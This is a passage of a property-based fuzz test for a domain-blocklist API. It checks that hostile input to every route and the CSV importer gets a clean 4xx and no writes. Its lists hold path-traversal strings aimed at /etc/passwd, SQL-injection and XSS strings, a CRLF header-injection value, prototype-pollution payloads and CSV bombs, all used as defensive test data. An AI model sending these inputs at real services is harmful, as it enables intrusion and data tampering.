// SPEC §3, §9: malformed input is a 4xx problem+json that says what to fix, never a 5xx, never a
// crash and never a partial write. Every route of the route table gets garbage — random bytes
// under every content type, random and deeply nested JSON, every field set to a wrong type, a
// number at its limits, a huge string or a unicode trick, prototype-pollution keys, path and
// query tricks — and the importer gets CSV bombs. After each request: the answer is below 500,
// a 4xx is problem+json with a `code`, a refused request wrote nothing (row counts of every
// table, every list's revision and SQLite's commit counter are unchanged), /healthz answers and
// Object.prototype is untouched. The caller is an admin with an instance, so that authorization
// is never what refuses the input.
import { request as httpRequest } from "node:http";
import fc from "fast-check";
import { afterAll, afterEach, beforeAll, describe, expect, test, vi } from "vitest";
import { z } from "zod";
import { createAppeal } from "../../server/appeals/appeals.service.js";
import type { AnyRoute } from "../../server/http/route.js";
import { allRoutes } from "../../server/http/routes/index.js";
import { startTestApp, type TestApp } from "../support/app.js";
import { addMember, type Member } from "../support/members.js";
import { seedEntries } from "../support/seed.js";
import {
  isWrite,
  openProbe,
  paramNames,
  pathWith,
  routeLabel,
  send,
  unfilledParams,
  type DatabaseProbe,
  type DatabaseState,
  type ParamValues,
  type RawRequest,
  type RawResponse,
} from "./harness.js";

// Each test sends hundreds of requests (thousands in all); on PostgreSQL on a busy two-core
// machine one test can take over the default 30 s. A timed-out test leaves its requests
// running into the next test's "nothing written" check, so the budget is generous.
vi.setConfig({ testTimeout: 180_000 });

let app: TestApp;
let probe: DatabaseProbe;
let root: Member;
let bystander: Member;
const ids = {
  open: 0,
  decided: 0,
  ownSubscription: 0,
  othersSubscription: 0,
  othersToken: "",
  othersWebhook: 0,
  source: 0,
  appeal: 0,
};
let appealToken = "";

const PROTOTYPE_KEYS = Object.getOwnPropertyNames(Object.prototype).sort();

async function expectStatus(
  pending: PromiseLike<{ status: number; text: string }>,
  status: number,
) {
  const response = await pending;
  if (response.status !== status) {
    throw new Error(`setup: expected ${status}, got ${response.status}: ${response.text}`);
  }
  return JSON.parse(response.text || "null") as Record<string, unknown>;
}

beforeAll(async () => {
  app = await startTestApp();
  root = await addMember(app, "root", "root.example", "admin");
  bystander = await addMember(app, "bystander", "bystander.example");
  await addMember(app, "victim", "victim.example");
  for (const slug of ["target", "csv-target"]) {
    await expectStatus(
      root.api.post("/api/v1/lists", { slug, name: slug, policy: { quorum: 3, minOpenHours: 24 } }),
      201,
    );
  }
  await seedEntries(app.ctx, "target", [
    { domain: "listed.example", privateComment: "private", tags: ["spam"] },
  ]);
  // Ids 1 are taken by a closed proposal and a deleted subscription, so that `0x1`, `1e0` or
  // ` 1` in a path (all read as 1) reach nothing that a stray write could close or delete.
  const first = await expectStatus(
    bystander.api.post("/api/v1/lists/target/proposals", {
      kind: "add",
      domain: "first.example",
      severity: "noop",
    }),
    201,
  );
  await expectStatus(bystander.api.post(`/api/v1/proposals/${first.id}/withdraw`), 200);
  const propose = async (domain: string) =>
    (
      await expectStatus(
        bystander.api.post("/api/v1/lists/target/proposals", {
          kind: "add",
          domain,
          severity: "suspend",
        }),
        201,
      )
    ).id as number;
  ids.open = await propose("proposed.example");
  ids.decided = await propose("to-decide.example");
  // Appeals of listed.example: 1 (the id `0x1` reads as) and the one the routes act on. A
  // member's proposal open on the entry refuses their verification before anything is fetched.
  for (let made = 0; made < 2; made += 1) {
    const appeal = await createAppeal(app.ctx, "target", "listed.example", {
      kind: "remove",
      rebuttal: "We changed.",
      links: [],
    });
    ids.appeal = appeal.id;
    appealToken = appeal.appealToken;
  }
  await expectStatus(
    bystander.api.post("/api/v1/lists/target/proposals", {
      kind: "remove",
      domain: "listed.example",
    }),
    201,
  );
  const dummy = await expectStatus(
    root.api.post("/api/v1/subscriptions", { list: "csv-target" }),
    201,
  );
  await expectStatus(root.api.delete(`/api/v1/subscriptions/${dummy.id}`), 204);
  ids.ownSubscription = (
    await expectStatus(root.api.post("/api/v1/subscriptions", { list: "target" }), 201)
  ).id as number;
  ids.othersSubscription = (
    await expectStatus(bystander.api.post("/api/v1/subscriptions", { list: "target" }), 201)
  ).id as number;
  // Webhook 1 is deleted and 2 is the bystander's, which the sweeping admin does not manage.
  const hook = { url: "https://hooks.example/in", events: ["proposal.opened"] };
  const deleted = await expectStatus(bystander.api.post("/api/v1/webhooks", hook), 201);
  await expectStatus(bystander.api.delete(`/api/v1/webhooks/${deleted.id}`), 204);
  ids.othersWebhook = (await expectStatus(bystander.api.post("/api/v1/webhooks", hook), 201))
    .id as number;
  const tokens = await expectStatus(bystander.api.get("/api/v1/tokens"), 200);
  ids.othersToken = (tokens.items as { id: string }[])[0]!.id;
  // The token's first use records lastUsedAt; the test clock stands still, so no later use does.
  await expectStatus(root.api.get("/api/v1/me"), 200);
  ids.source = (
    await expectStatus(
      root.api.post("/api/v1/lists/target/sources", {
        kind: "blocklist",
        url: "https://127.0.0.1:1/target.csv",
      }),
      201,
    )
  ).id as number;
  probe = await openProbe(app.ctx);
});
afterAll(async () => {
  probe?.close();
  await app?.close();
});

// ---------------------------------------------------------------------------------------------
// What each route is called with

/** Valid values for every parameter: resources that exist, where a stray write does no harm. */
const paramValues = (): ParamValues => ({
  byKey: {
    "lists/:slug": ["target"],
    "entries/:domain": ["listed.example"],
    "proposals/:id": [String(ids.open)],
    "appeals/:id": [String(ids.appeal)],
    "subscriptions/:id": [String(ids.ownSubscription)],
    "sources/:id": [String(ids.source)],
    "tokens/:id": [ids.othersToken],
    "accounts/:username": ["victim"],
    "datasets/:slug": ["target"],
    "labels/:tag": ["spam"],
    "changes/:id": ["0190e7a4-7a3b-7c00-8000-000000000000"],
    "webhooks/:id": [String(ids.othersWebhook)],
    "instances/:domain": ["root.example"],
  },
  byRoute: {
    "POST /api/v1/proposals/:id/decide": { id: [String(ids.decided)] },
    "DELETE /api/v1/subscriptions/:id": { id: [String(ids.othersSubscription)] },
  },
});

/** A valid body for each route that takes one; the garbage is made by changing it. */
const BASE_BODIES: Record<string, Record<string, unknown>> = {
  "POST /auth/login": { username: "root", password: "not-the-password" },
  "POST /api/v1/me/password": {
    currentPassword: "not-the-password",
    newPassword: "a-new-password-1",
  },
  "POST /api/v1/tokens": { name: "hostile", scopes: ["read"] },
  "POST /api/v1/webhooks": { url: "https://hooks.example/hostile", events: ["entry.added"] },
  "POST /api/v1/instances": { domain: "new-instance.example", name: "New" },
  "PATCH /api/v1/instances/:domain": { listed: false },
  "POST /api/v1/accounts": { username: "newcomer", role: "member", instance: "root.example" },
  "PATCH /api/v1/accounts/:username": { role: "member", disabled: false },
  "POST /api/v1/lists": {
    slug: "fresh",
    name: "Fresh",
    description: "",
    visibility: "public",
    policy: {
      quorum: 3,
      threshold: 0.66,
      votingDays: 14,
      minOpenHours: 24,
      severityRule: "majority",
      publicEvidence: false,
    },
  },
  "PATCH /api/v1/lists/:slug": {
    name: "target",
    description: "",
    visibility: "public",
    policy: { quorum: 3, threshold: 0.66, votingDays: 14, minOpenHours: 24 },
  },
  "PATCH /api/v1/lists/:slug/entries/:domain": {
    publicComment: "public",
    privateComment: "private",
    tags: ["spam"],
    evidence: ["https://evidence.example/1"],
  },
  "POST /api/v1/lists/:slug/proposals": {
    kind: "add",
    domain: "another.example",
    reason: "why",
    severity: "suspend",
    rejectMedia: false,
    rejectReports: false,
    obfuscate: false,
    publicComment: "public",
    privateComment: "private",
    tags: ["spam"],
    evidence: ["https://evidence.example/1"],
  },
  "PUT /api/v1/proposals/:id/vote": { vote: "no", severity: "silence", comment: "no" },
  "POST /api/v1/proposals/:id/decide": { outcome: "rejected", reason: "because" },
  "POST /api/v1/proposals/:id/comments": { body: "a comment" },
  "POST /api/v1/lists/:slug/entries/:domain/appeals": {
    kind: "change",
    rebuttal: "We changed.",
    links: ["https://listed.example/rules"],
    fields: { severity: "silence", publicComment: "public", tags: ["spam"] },
  },
  "POST /api/v1/appeals/:id/comments": {
    get appealToken() {
      return appealToken;
    },
    body: "a comment",
  },
  "POST /api/v1/subscriptions": {
    list: "target",
    minSeverity: "silence",
    tags: ["spam"],
    exclude: ["x.example"],
  },
  "PATCH /api/v1/subscriptions/:id": { minSeverity: null, tags: ["spam"], exclude: ["x.example"] },
  "POST /api/v1/lists/:slug/sources": {
    kind: "blocklist",
    url: "https://127.0.0.1:1/fresh.csv",
    maxSeverity: "silence",
    tags: ["spam"],
    maxProposalsPerPoll: 10,
    pollMinutes: 60,
  },
  "PATCH /api/v1/lists/:slug/sources/:id": {
    maxSeverity: "silence",
    tags: ["spam"],
    maxProposalsPerPoll: 10,
    pollMinutes: 60,
  },
};

const CSV_BASE = "#domain,#severity\nfrom-csv.example,suspend\n";
const writeRoutes = allRoutes.filter(isWrite);

function baseRequest(route: AnyRoute, path?: string): RawRequest {
  const url = path ?? pathWith(route, paramValues(), "", "");
  if (route.method === "get") return { method: "GET", path: url };
  if (route.bodyType === "csv-upload") {
    return {
      method: route.method,
      path: url,
      headers: { "Content-Type": "text/csv" },
      body: CSV_BASE,
    };
  }
  const body = BASE_BODIES[routeLabel(route)];
  return {
    method: route.method,
    path: url,
    ...(body
      ? { headers: { "Content-Type": "application/json" }, body: JSON.stringify(body) }
      : {}),
  };
}

/** The field paths of a route's body: those of its base body and its schema's top level. */
function fieldPaths(route: AnyRoute): string[] {
  const paths = new Set<string>();
  const walk = (value: unknown, path: string[]) => {
    if (path.length > 0) paths.add(path.join("."));
    if (value && typeof value === "object") {
      for (const [key, child] of Object.entries(value)) walk(child, [...path, key]);
    }
  };
  walk(BASE_BODIES[routeLabel(route)] ?? {}, []);
  if (route.body instanceof z.ZodObject)
    for (const key of Object.keys(route.body.shape)) paths.add(key);
  return [...paths];
}

/**
 * JSON text of `value` with the values at some dotted paths replaced by raw JSON fragments
 * (`-0`, `1e400`, `"\ud800"`, a key named `__proto__`), adding the paths that are missing.
 */
function jsonWith(value: unknown, replaced: Map<string, string>, path: string[] = []): string {
  const here = path.join(".");
  if (path.length > 0 && replaced.has(here)) return replaced.get(here)!;
  if (Array.isArray(value)) {
    return `[${value.map((item, index) => jsonWith(item, replaced, [...path, String(index)])).join(",")}]`;
  }
  if (value && typeof value === "object") {
    const keys = Object.keys(value);
    const members = keys.map(
      (key) =>
        `${JSON.stringify(key)}:${jsonWith((value as Record<string, unknown>)[key], replaced, [...path, key])}`,
    );
    for (const [target, fragment] of replaced) {
      const segments = target.split(".");
      const key = segments.at(-1)!;
      if (
        segments.slice(0, -1).join(".") === here &&
        segments.length === path.length + 1 &&
        !keys.includes(key)
      ) {
        members.push(`${JSON.stringify(key)}:${fragment}`);
      }
    }
    return `{${members.join(",")}}`;
  }
  return JSON.stringify(value);
}

// ---------------------------------------------------------------------------------------------
// Garbage

const text = (value: string) => JSON.stringify(value);

const UNICODE_TRICKS = [
  "\u202Eelpmaxe.live", // right-to-left override
  "exa\u200Bmple.com", // zero-width space
  "exa\u200Dmple.com", // zero-width joiner
  "\uFEFFbom.example",
  "e\u0301xample.com", // combining acute
  `z${"\u0336\u0301\u0300".repeat(300)}.example`, // a pile of combining marks
  "nul\u0000byte.example",
  "\u0000",
  "lone\uD800surrogate",
  "\uDFFF",
  "\uD83D",
  "\u0430pple.com", // Cyrillic а
  "\u0435\u0445\u0430mple.com", // Cyrillic е х а
  "xn--80ak6aa92e.com",
  "xn--",
  "xn--zz.example",
  "example\u3002com", // ideographic full stop
  "\uFF25\uFF38\uFF21\uFF2D\uFF30\uFF2C\uFF25.com", // fullwidth EXAMPLE
  "\u{1F4A5}.example",
  "\u{10FFFF}",
  "line\u2028separator",
  "tab\there",
  "example.com\r\nX-Injected: 1",
];
const SHAPE_TRICKS = [
  "",
  " ",
  "*.example.com",
  "exa*mple.com",
  "example[.]com",
  "https://example.com/path?q#f",
  "example.com:443",
  "user@example.com",
  "../../etc/passwd",
  "%2e%2e%2f",
  "<script>alert(1)</script>",
  "' OR 1=1 --",
  '"; DROP TABLE "Entry"; --',
  "${7*7}{{7*7}}%s%n",
  "__proto__",
  "constructor",
  "NaN",
  "-0",
  "0x10",
  " 1 ",
  "9007199254740993",
  "true",
  "null",
  `${"a".repeat(64)}.example`,
  `${"a.".repeat(130)}example`,
];
const NUMBERS = [
  "0",
  "-1",
  "-0",
  "1.5",
  "0.001",
  "1e-300",
  "5e-324",
  "1e308",
  "-1e308",
  "1e400",
  "-1e400",
  "2147483648",
  "9007199254740993",
  "123456789012345678901234567890",
  "0.66000000001",
  text("NaN"),
  text("Infinity"),
  text("1e308"),
];
const WRONG_TYPES = ["null", "true", "false", "[]", "{}", "[[]]", "[null]", '{"a":1}', '""'];
const HUGE_STRINGS = [
  text("x".repeat(2_001)),
  text("x".repeat(5_001)),
  text("\u00E9".repeat(70_000)),
];
const HUGE_ARRAYS = [
  JSON.stringify(Array.from({ length: 10_000 }, () => "spam")),
  JSON.stringify(Array.from({ length: 5_000 }, () => null)),
  JSON.stringify(UNICODE_TRICKS),
];
const POLLUTERS = [
  '{"__proto__":{"polluted":"yes"}}',
  '{"constructor":{"prototype":{"polluted":"yes"}}}',
  '[{"__proto__":{"polluted":"yes"}}]',
];
/** Every hostile value, as a JSON fragment. */
const HOSTILE_VALUES = [
  ...WRONG_TYPES,
  ...NUMBERS,
  ...HUGE_STRINGS,
  ...HUGE_ARRAYS,
  ...POLLUTERS,
  ...UNICODE_TRICKS.map(text),
  ...SHAPE_TRICKS.map(text),
];

/** The hostile values worth sending in place of a field whose valid value is `sample`: every
 * wrong type for every field, and the tricks of its own type. */
function hostileValuesFor(sample: unknown): string[] {
  const always = [...WRONG_TYPES, ...POLLUTERS, "0", "-0", "1e400", text("NaN")];
  if (typeof sample === "string") {
    return [...always, ...HUGE_STRINGS, ...UNICODE_TRICKS.map(text), ...SHAPE_TRICKS.map(text)];
  }
  if (typeof sample === "number") return [...always, ...NUMBERS, text("1"), text(" 3 ")];
  if (Array.isArray(sample)) return [...always, ...HUGE_ARRAYS];
  return always;
}
const EXTRA_KEYS = [
  "__proto__",
  "constructor",
  "prototype",
  "toString",
  "hasOwnProperty",
  "",
  "\u0000",
  "\uD800",
];

const CONTENT_TYPES = [
  undefined,
  "",
  "application/json",
  "application/json; charset=utf-8",
  "application/merge-patch+json",
  "application/json; charset=utf-16le",
  "application/json; charset=bogus",
  "text/csv",
  "text/csv; charset=latin1",
  "text/csv; charset=bogus",
  "text/plain",
  "application/csv",
  "multipart/form-data; boundary=XyZ",
  "multipart/form-data",
  "application/x-www-form-urlencoded",
  "application/octet-stream",
  "*/*",
  ";;;",
];
const CONTENT_ENCODINGS = [undefined, "gzip", "deflate", "br", "identity", "bogus"];

/** Path parameters: traversal, NUL, broken percent-encoding, numbers that are not ids, length. */
const PATH_TRICKS = [
  "..%2f",
  "..%2F..%2F..%2Fetc%2Fpasswd",
  "%2e%2e",
  "..",
  ".",
  "%00",
  "a%00b",
  "%ff",
  "%ED%A0%80", // a UTF-8-encoded lone surrogate
  "%",
  "%zz",
  "%20",
  "+",
  "%2A",
  "%E2%80%AE", // right-to-left override
  "%EF%BB%BF", // BOM
  encodeURIComponent("\u0430pple.com"),
  "__proto__",
  "constructor",
  "prototype",
  "NaN",
  "Infinity",
  "-1",
  "0",
  "1e3",
  "1e300",
  "0x1",
  "1.5",
  "9".repeat(30),
  "a;b=c",
  "a,b",
  "x".repeat(10_000),
];

/** Percent-encodes every byte of the UTF-8 form: never throws, even on a lone surrogate. */
const encode = (value: string) =>
  [...Buffer.from(value, "utf8")].map((byte) => `%${byte.toString(16).padStart(2, "0")}`).join("");

// ---------------------------------------------------------------------------------------------
// The properties

const describeRequest = (req: RawRequest) =>
  `${req.method.toUpperCase()} ${req.path.slice(0, 200)} ${JSON.stringify(req.headers ?? {})} ${
    req.body === undefined ? "" : JSON.stringify(String(req.body).slice(0, 300))
  }`;

/** A 2xx import answer accounts for every row (SPEC §5). */
function expectConsistentReport(response: RawResponse, context: string) {
  const { report } = JSON.parse(response.text) as {
    report: {
      rows: number;
      valid: number;
      new: number;
      alreadyListed: number;
      alreadyProposed: number;
      changed: number;
      problems: unknown[];
    };
  };
  expect(report.valid + report.problems.length, context).toBe(report.rows);
  expect(report.new + report.alreadyListed + report.alreadyProposed + report.changed, context).toBe(
    report.valid,
  );
}

/**
 * Sends a request as the admin and checks the properties of this file. `readOnly`: the request
 * must write nothing whatever it answers (reads, dry runs).
 */
async function hostile(
  req: RawRequest,
  options: { readOnly?: boolean; expect?: number } = {},
): Promise<RawResponse> {
  const before: DatabaseState = await probe.state();
  const response = await send(app.url, {
    ...req,
    headers: { Authorization: `Bearer ${root.token}`, ...req.headers },
  });
  const context = `${describeRequest(req)}\n→ ${response.status} ${response.text.slice(0, 300)}`;
  expect(response.status, context).toBeGreaterThanOrEqual(200);
  expect(response.status, context).toBeLessThan(500);
  if (options.expect !== undefined) expect(response.status, context).toBe(options.expect);
  if (response.status >= 400) {
    expect(response.headers["content-type"], context).toMatch(/^application\/problem\+json/);
    const problem = JSON.parse(response.text) as { code?: unknown; status?: unknown };
    expect(problem.code, context).toMatch(/^[a-z][a-z_]*$/);
    expect(problem.status, context).toBe(response.status);
  }
  if (response.status >= 400 || options.readOnly) {
    // A refused sign-in is written down on purpose, as the throttle's record of the failure
    // (SignInFailure): that row, and the commit that wrote it, are the only write allowed.
    const signIn = req.path.startsWith("/auth/login");
    const comparable = (state: DatabaseState): DatabaseState =>
      signIn ? { ...state, counts: { ...state.counts, SignInFailure: 0 }, commits: null } : state;
    expect(comparable(await probe.state()), `nothing may be written: ${context}`).toEqual(
      comparable(before),
    );
  }
  if (response.status < 300 && req.path.includes("/imports"))
    expectConsistentReport(response, context);
  if (++requestsSent % HEALTH_EVERY === 0) await expectHealthy(context);
  expect(Object.getOwnPropertyNames(Object.prototype).sort(), context).toEqual(PROTOTYPE_KEYS);
  expect(({} as Record<string, unknown>).polluted, context).toBeUndefined();
  return response;
}

let requestsSent = 0;
/** /healthz is asked after every few requests and at the end of every test. */
const HEALTH_EVERY = 5;
async function expectHealthy(after: string) {
  const health = await send(app.url, { method: "GET", path: "/healthz" });
  expect(health.status, `/healthz after ${after}`).toBe(200);
  expect(JSON.parse(health.text)).toEqual({ status: "ok", database: "ok" });
}
afterEach(async () => {
  await expectHealthy("the test");
});

const runs = (count: number) => ({ numRuns: count, endOnFailure: true });

test("the garbage below covers every route of the route table", () => {
  expect(unfilledParams(allRoutes, paramValues())).toEqual([]);
  const withBody = writeRoutes.filter((route) => route.body !== undefined);
  expect(withBody.filter((route) => !BASE_BODIES[routeLabel(route)]).map(routeLabel)).toEqual([]);
  expect(writeRoutes.length).toBeGreaterThanOrEqual(20);
});

describe.each(writeRoutes.map((route) => [routeLabel(route), route] as const))(
  "%s",
  (_label, route) => {
    test("random bytes under any content type and encoding", async () => {
      await fc.assert(
        fc.asyncProperty(
          fc.uint8Array({ maxLength: 2048 }),
          fc.constantFrom(...CONTENT_TYPES),
          fc.constantFrom(...CONTENT_ENCODINGS),
          async (bytes, type, encoding) => {
            const headers: Record<string, string> = {};
            if (type !== undefined) headers["Content-Type"] = type;
            if (encoding !== undefined) headers["Content-Encoding"] = encoding;
            await hostile({ ...baseRequest(route), headers, body: Buffer.from(bytes) });
          },
        ),
        runs(40),
      );
    });

    test("random JSON and deeply nested JSON", async () => {
      await fc.assert(
        fc.asyncProperty(fc.jsonValue({ maxDepth: 5 }), async (value) => {
          await hostile({
            ...baseRequest(route),
            headers: { "Content-Type": "application/json" },
            body: JSON.stringify(value) ?? "null",
          });
        }),
        runs(25),
      );
      const depth = 10_000;
      const deepArray = "[".repeat(depth) + "]".repeat(depth);
      const deepObject = '{"a":'.repeat(depth) + "1" + "}".repeat(depth);
      const bodies = [deepArray, deepObject, "[".repeat(100_000) + "]".repeat(100_000)];
      for (const path of fieldPaths(route).slice(0, 3)) {
        bodies.push(jsonWith(BASE_BODIES[routeLabel(route)] ?? {}, new Map([[path, deepArray]])));
      }
      for (const body of bodies) {
        await hostile({
          ...baseRequest(route),
          headers: { "Content-Type": "application/json" },
          body,
        });
      }
    });

    // Routes without a JSON body (deletes, withdraw, the CSV upload) have no fields to spoil.
    const paths = route.bodyType === "csv-upload" ? [] : fieldPaths(route);
    if (paths.length === 0) return;

    test("every field set to every hostile value", async () => {
      const base = BASE_BODIES[routeLabel(route)] ?? {};
      for (const path of paths) {
        const sample = path
          .split(".")
          .reduce<unknown>(
            (value, key) => (value as Record<string, unknown> | undefined)?.[key],
            base,
          );
        for (const value of hostileValuesFor(sample)) {
          await hostile({
            ...baseRequest(route),
            headers: { "Content-Type": "application/json" },
            body: jsonWith(base, new Map([[path, value]])),
          });
        }
      }
      // Beyond the 256 kB limit of JSON bodies, whichever field carries the bulk.
      const oversized = jsonWith(base, new Map([[paths[0]!, text("x".repeat(300_000))]]));
      await hostile(
        { ...baseRequest(route), headers: { "Content-Type": "application/json" }, body: oversized },
        { expect: 413 },
      );
      for (const key of EXTRA_KEYS) {
        const body = jsonWith(base, new Map([[key, POLLUTERS[0]!]]));
        const response = await hostile({
          ...baseRequest(route),
          headers: { "Content-Type": "application/json" },
          body,
        });
        // An unknown field is a 400 that names it (SPEC §3), whatever its name.
        if (route.body)
          expect(response.status, `${routeLabel(route)} with the key ${JSON.stringify(key)}`).toBe(
            400,
          );
      }
    });

    test("random mixes of hostile fields and keys", async () => {
      const base = BASE_BODIES[routeLabel(route)] ?? {};
      const value = fc.oneof(
        fc.constantFrom(...HOSTILE_VALUES),
        fc.string({ unit: "binary", maxLength: 80 }).map(text),
        fc.double().map((number) => (Number.isFinite(number) ? JSON.stringify(number) : "1e999")),
        fc.bigInt().map(String),
        fc.jsonValue({ maxDepth: 3 }).map((json) => JSON.stringify(json) ?? "null"),
      );
      await fc.assert(
        fc.asyncProperty(
          fc.uniqueArray(fc.constantFrom(...paths, ...EXTRA_KEYS), { minLength: 1, maxLength: 5 }),
          fc.array(value, { minLength: 5, maxLength: 5 }),
          async (targets, values) => {
            const body = jsonWith(
              base,
              new Map(targets.map((target, index) => [target, values[index]!])),
            );
            await hostile({
              ...baseRequest(route),
              headers: { "Content-Type": "application/json" },
              body,
            });
          },
        ),
        runs(30),
      );
    });
  },
);

describe("path and query tricks, on every route", () => {
  const withParams = allRoutes.filter((route) => paramNames(route.path).length > 0);

  test.each(withParams.map((route) => [routeLabel(route), route] as const))(
    "%s: a hostile value in each path parameter",
    async (_label, route) => {
      for (const name of paramNames(route.path)) {
        for (const trick of PATH_TRICKS) {
          const path = pathWith(route, paramValues(), name, trick);
          await hostile(baseRequest(route, path), { readOnly: route.method === "get" });
        }
      }
    },
  );

  test.each(allRoutes.map((route) => [routeLabel(route), route] as const))(
    "%s: duplicate, nested and hostile query parameters",
    async (_label, route) => {
      const known = route.query instanceof z.ZodObject ? Object.keys(route.query.shape) : [];
      const key = fc.constantFrom(
        ...known,
        "dryRun",
        "direct",
        "limit",
        "cursor",
        "since",
        "q",
        "__proto__",
        "constructor",
        "a[b]",
        "a[]",
      );
      const value = fc.oneof(
        fc
          .constantFrom(
            ...SHAPE_TRICKS,
            ...UNICODE_TRICKS,
            ...NUMBERS.map((number) => number.replaceAll('"', "")),
          )
          .map(encode),
        fc.constantFrom("%", "%zz", "%ff", "%00", "%ED%A0%80", "true", "1", "false"),
        fc.string({ maxLength: 20 }).map(encode),
      );
      await fc.assert(
        fc.asyncProperty(
          fc.array(fc.tuple(key, value, fc.boolean()), { minLength: 1, maxLength: 6 }),
          async (pairs) => {
            const query = pairs
              .map(([name, text, bracket]) => `${encode(name)}${bracket ? "%5B%5D" : ""}=${text}`)
              .join("&");
            const base = baseRequest(route);
            await hostile(
              { ...base, path: `${base.path}?${query}` },
              { readOnly: route.method === "get" },
            );
          },
        ),
        runs(15),
      );
    },
  );

  test("a repeated or bracketed dryRun or direct flag is refused, never read as an apply", async () => {
    for (const query of [
      "dryRun=true&dryRun=false",
      "dryRun=false&dryRun=true",
      "dryRun=true&dryRun=true",
      "dryRun[]=true",
      "dryRun[a]=true",
      "dryRun=TRUE",
      "dryRun=yes",
      "dryRun=true&direct=true&direct=false",
      "direct=1&direct=1",
      "__proto__[dryRun]=false&dryRun=true&dryRun=",
      "dryrun=true",
      "dry_run=true",
      "dryRun=true&extra=1",
    ]) {
      const response = await hostile(
        {
          method: "post",
          path: `/api/v1/lists/target/imports?${query}`,
          headers: { "Content-Type": "text/csv" },
          body: CSV_BASE,
        },
        { expect: 400 },
      );
      expect(JSON.parse(response.text).errors[0].field, query).toMatch(/^query\./);
    }
  });

  test("a request line beyond Node's header limit is refused before the app, and the server lives on", async () => {
    const response = await send(app.url, {
      method: "GET",
      path: `/api/v1/lists/${"x".repeat(20_000)}`,
    });
    expect(response.status).toBe(431);
    expect((await send(app.url, { method: "GET", path: "/healthz" })).status).toBe(200);
  });
});

describe("the importer and CSV bombs", () => {
  const row = (domain: string) => `${domain},suspend`;
  const BOMBS: { name: string; csv: string | Buffer; status?: number }[] = [
    {
      name: "a 1 MB field",
      csv: `#domain,#public_comment\na.example,${"x".repeat(1_000_000)}\n`,
      status: 400,
    },
    {
      name: "10,000 columns in the header",
      csv: `${Array.from({ length: 10_000 }, (_, i) => `c${i}`).join(",")}\na.example\n`,
    },
    {
      name: "10,000 named columns",
      csv: `#domain,${Array.from({ length: 10_000 }, (_, i) => `c${i}`).join(",")}\na.example\n`,
    },
    {
      name: "10,000 columns in a row",
      csv: `#domain,#severity\na.example,${",".repeat(10_000)}\n`,
    },
    {
      name: "an unterminated quote",
      csv: `#domain,#public_comment\na.example,"oops\n${row("b.example")}\n`,
      status: 400,
    },
    { name: "a million quotes", csv: '"'.repeat(1_000_000), status: 400 },
    { name: "three million commas on one line", csv: ",".repeat(3_000_000) },
    {
      name: "a thousand commas on each of 3,000 lines",
      csv: `${",".repeat(1_000)}\n`.repeat(3_000),
    },
    { name: "NUL bytes", csv: "#domain\na\u0000.example\n\u0000\u0000\nb.example\n\u0000" },
    {
      name: "invalid UTF-8",
      csv: Buffer.concat([
        Buffer.from("#domain\n"),
        Buffer.from([
          0xff, 0xfe, 0xc3, 0x28, 0x0a, 0xed, 0xa0, 0x80, 0x0a, 0xf0, 0x28, 0x8c, 0x28, 0x0a,
        ]),
        Buffer.from("valid.example\n"),
      ]),
    },
    {
      name: "mixed line endings",
      csv: "#domain,#severity\r\na.example,suspend\rb.example,silence\nc.example,noop\r\n\n\r\r\n",
    },
    {
      name: "a BOM in the middle",
      csv: "#domain\na.example\n\uFEFFb.example\n\uFEFF#domain\nc\uFEFF.example\n",
    },
    { name: "50,001 rows", csv: `#domain\n${"a.example\n".repeat(50_001)}`, status: 413 },
    { name: "more than 10 MB", csv: `#domain\n${"x".repeat(10 * 1024 * 1024 + 1)}`, status: 413 },
    { name: "only a header", csv: "#domain,#severity\n" },
    { name: "nothing", csv: "" },
    {
      name: "a header without a domain column",
      csv: "#severity,#public_comment\nsuspend,x\n",
      status: 400,
    },
  ];

  const multipart = (csv: string | Buffer, field = "file") =>
    Buffer.concat([
      Buffer.from(
        `--XyZ\r\nContent-Disposition: form-data; name="${field}"; filename="bomb.csv"\r\nContent-Type: text/csv\r\n\r\n`,
      ),
      Buffer.from(csv),
      Buffer.from("\r\n--XyZ--\r\n"),
    ]);
  const upload = (query: string, csv: string | Buffer, asMultipart = false): RawRequest => ({
    method: "post",
    path: `/api/v1/lists/csv-target/imports${query}`,
    headers: { "Content-Type": asMultipart ? "multipart/form-data; boundary=XyZ" : "text/csv" },
    body: asMultipart ? multipart(csv) : csv,
  });

  test.each(BOMBS.map((bomb) => [bomb.name, bomb] as const))("%s", async (_name, bomb) => {
    const expected = bomb.status === undefined ? {} : { expect: bomb.status };
    await hostile(upload("?dryRun=true", bomb.csv), { readOnly: true, ...expected });
    await hostile(upload("?dryRun=true", bomb.csv, true), { readOnly: true, ...expected });
    await hostile(
      upload("?direct=true", bomb.csv),
      bomb.status === undefined ? {} : { expect: bomb.status },
    );
    await hostile(upload("", bomb.csv), bomb.status === undefined ? {} : { expect: bomb.status });
  });

  test("broken multipart uploads are a 400, not a server error", async () => {
    const broken: [string, string | Buffer][] = [
      [
        "multipart/form-data; boundary=XyZ",
        '--XyZ\r\nContent-Disposition: form-data; name="file"; filename="a.csv"\r\n\r\nabc',
      ],
      ["multipart/form-data", "no boundary at all"],
      ["multipart/form-data; boundary=XyZ", "no part starts here"],
      ["multipart/form-data; boundary=XyZ", multipart("a.example\n", "other")],
      [
        "multipart/form-data; boundary=XyZ",
        Buffer.concat([
          multipart("a.example\n").subarray(0, -"--XyZ--\r\n".length),
          multipart("b.example\n"),
        ]),
      ],
    ];
    for (const [type, body] of broken) {
      await hostile(
        {
          method: "post",
          path: "/api/v1/lists/csv-target/imports?dryRun=true",
          headers: { "Content-Type": type },
          body,
        },
        { readOnly: true, expect: 400 },
      );
    }
    // A form field named `file` that is not a file: there is no CSV to read.
    await hostile(
      {
        method: "post",
        path: "/api/v1/lists/csv-target/imports?dryRun=true",
        headers: { "Content-Type": "multipart/form-data; boundary=XyZ" },
        body: '--XyZ\r\nContent-Disposition: form-data; name="file"\r\n\r\nnot a file\r\n--XyZ--\r\n',
      },
      { readOnly: true, expect: 415 },
    );
  });

  const CSV_TOKENS = [
    ",",
    ",",
    ",",
    '"',
    '""',
    "\n",
    "\r",
    "\r\n",
    "\u0000",
    "\uFEFF",
    "#domain",
    "#severity",
    "domain",
    "#reject_media",
    "#public_comment",
    "suspend",
    "silence",
    "noop",
    "limit",
    "true",
    "fale",
    "a.example",
    "b.example",
    "*.c.example",
    "exa*ple.com",
    "d[.]example",
    "\u00E9.example",
    "\u0430pple.com",
    " ",
    "\t",
    "#",
    "\u200B",
    "xn--",
    "-",
    ".",
    "\u{1F4A5}",
    "null",
    "x".repeat(300),
  ];
  const csvText = fc
    .array(fc.constantFrom(...CSV_TOKENS), { maxLength: 200 })
